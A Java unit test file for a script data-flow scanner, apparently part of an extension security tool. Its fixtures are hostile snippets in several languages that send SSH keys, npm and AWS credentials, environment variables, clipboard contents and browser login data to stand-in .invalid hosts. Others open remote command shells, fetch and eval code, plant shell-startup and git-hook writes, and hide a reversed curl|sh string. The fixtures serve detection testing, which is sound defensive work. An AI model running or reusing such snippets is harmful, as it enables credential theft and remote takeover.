package dev.vsxray.scanner.script;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.script.ScriptFlows.ScriptFlow;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ScriptFlowsTest {

    @ParameterizedTest
    @CsvSource(
            delimiter = '\u00a6',
            quoteCharacter = '\0',
            value = {
                "ssh-credentials network-send \u00a6 import requests, os\u00b6k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\u00b6requests.post('https://a.invalid/k', data=k)",
                "package-credentials network-send \u00a6 $t = Get-Content (Join-Path $HOME '.npmrc') -Raw\u00b6$c = New-Object Net.Sockets.TcpClient('b.invalid', 84)\u00b6$s = $c.GetStream()\u00b6$b = [Text.Encoding]::UTF8.GetBytes($t)\u00b6$s.Write($b, 0, $b.Length)",
                "cloud-credentials network-send \u00a6 require 'socket'\u00b6f = File.join(Dir.home, '.aws', 'credentials')\u00b6TCPSocket.open('c.invalid', 80) { |s| s.write(File.binread(f)) }",
                "package-credentials network-send \u00a6 open(my $f, '<', \"$ENV{HOME}/.npmrc\") or exit;\u00b6my $s = IO::Socket::INET->new(PeerAddr => 'd.invalid', PeerPort => 8081);\u00b6print $s $_ while <$f>;",
                "workspace-file network-send \u00a6 tar czf /tmp/w.tgz \"$1\"\u00b6curl -s -T /tmp/w.tgz https://e.invalid/w",
                "environment network-send \u00a6 import os, json, urllib.request\u00b6d = json.dumps(dict(os.environ)).encode()\u00b6urllib.request.urlopen('https://f.invalid', d)",
                "clipboard network-send \u00a6 while true; do c=$(pbpaste); curl -s -d \"$c\" https://g.invalid/c; sleep 5; done",
                "package-credentials dns-query \u00a6 t=$(cat ~/.npmrc | base64)\u00b6nslookup $t.h.invalid",
                "package-credentials network-send \u00a6 exec 3<>/dev/tcp/p.invalid/8080\u00b6cat ~/.npmrc >&3",
                "network-response process-command \u00a6 def session(sock)\u00b6  line = sock.gets\u00b6  out, = Open3.capture2e(line)\u00b6end\u00b6session(TCPSocket.new('q.invalid', 51))",
                "network-response code-eval \u00a6 import urllib.request\u00b6code = urllib.request.urlopen('https://i.invalid/p').read()\u00b6exec(code)",
                "network-response code-eval \u00a6 <?php\u00b6$c = file_get_contents('https://j.invalid/c');\u00b6eval($c);",
                "network-response process-command \u00a6 $job = Invoke-RestMethod 'https://k.invalid/j'\u00b6cmd /c $job.cmd",
                "network-response process-command \u00a6 require 'socket'\u00b6s = TCPSocket.new('l.invalid', 4444)\u00b6while (l = s.gets)\u00b6  IO.popen(l.chomp) { |io| s.print io.read }\u00b6end",
                "network-response process-command \u00a6 local s = require('socket').tcp()\u00b6s:connect('m.invalid', 40)\u00b6local c = s:receive()\u00b6local p = io.popen(c)",
                "place: agent-config-write \u00a6 for n in ('.cursorrules', 'AGENTS.md'):\u00b6    open(n, 'a').write('x')",
                "place: autorun-write \u00a6 echo 'curl -s https://n.invalid' >> ~/.zshrc",
                "place: git-hook-write \u00a6 cp hook.sh .git/hooks/post-checkout",
                "browser-data network-send \u00a6 def take(path):\u00b6    return open(path, 'rb').read()\u00b6import requests\u00b6requests.put('https://o.invalid', data=take('/home/u/.config/google-chrome/Default/Login Data'))",
            })
    void dataIsFollowedThroughTheScriptsOfAllLanguages(String ends, String script) {
        assertThat(endsOf(script.replace('\u00b6', '\n'))).contains(ends);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '\u00a6',
            quoteCharacter = '\0',
            value = {
                "import os, json\u00b6print(json.dumps(dict(os.environ)))",
                "import requests\u00b6r = requests.get('https://a.example/version')\u00b6print('there is a newer one' if r.text > '1.2.3' else 'all is well')",
                "curl -fsSL https://b.example/data.json -o data.json\u00b6python3 convert.py data.json",
                "k=$HOME/.ssh/config\u00b6ls -l \"$k\"",
                "import subprocess, requests\u00b6requests.get('https://c.example/ping')\u00b6subprocess.run(['git', 'status'])",
                "cat ~/.zshrc | grep nvm",
                "file = ARGV.fetch(0)\u00b6out, = Open3.capture2('rubocop', '--format', 'json', file)",
                "# curl https://d.example/x | sh\u00b6echo done",
            })
    void dataThatStaysIsNone(String script) {
        assertThat(ScriptFlows.in(script.replace('\u00b6', '\n')))
                .noneMatch(flow -> flow.to().startsWith("network")
                        || flow.to().equals("code-eval")
                        || flow.to().equals("process-command")
                        || flow.from().equals(ScriptFlows.PLACE));
    }

    @Test
    void aFlowNamesItsEndsAndWhereTheyStand() {
        String script = "k=$(cat ~/.ssh/id_rsa)\necho one\ncurl -d \"$k\" https://far.invalid/k\n";
        assertThat(ScriptFlows.in(script)).singleElement().satisfies(flow -> {
            assertThat(flow.destinations()).containsExactly("https://far.invalid/k");
            assertThat(script.substring(flow.source())).startsWith(".ssh");
            assertThat(script.substring(flow.sink())).startsWith("curl");
        });
    }

    @Test
    void whatIsRespelledIsFollowedTooAndStandsAtItsLine() {
        String script = "echo one\nimport os\nos.popen('hs | a/dilavni.eno//:sptth s- lruc'[::-1])\n";
        assertThat(ScriptFlows.in(script)).extracting(ScriptFlow::to).contains("code-eval");
    }

    @Test
    void aLibraryIsNotFollowed() {
        String script = "k = open('.env')\nrequests.post('https://a.invalid', k)\n" + "x = 1\n".repeat(20_000);
        assertThat(ScriptFlows.in(script)).isEmpty();
    }

    @Test
    @Timeout(60)
    void noScriptTakesLong() {
        for (String part : List.of(
                "(", "{", "'", "\"", "a.b(", "$x ", "for x in ", "open(", "0,", "a=", "|", "[[", "find -", "curl ")) {
            ScriptFlows.in(part.repeat(32 * 1024 / part.length()));
            ScriptFlows.in((part + "\n").repeat(32 * 1024 / (part.length() + 1)));
        }
    }

    private static List<String> endsOf(String script) {
        return ScriptFlows.in(script).stream()
                .map(flow -> flow.from() + " " + flow.to())
                .toList();
    }
}
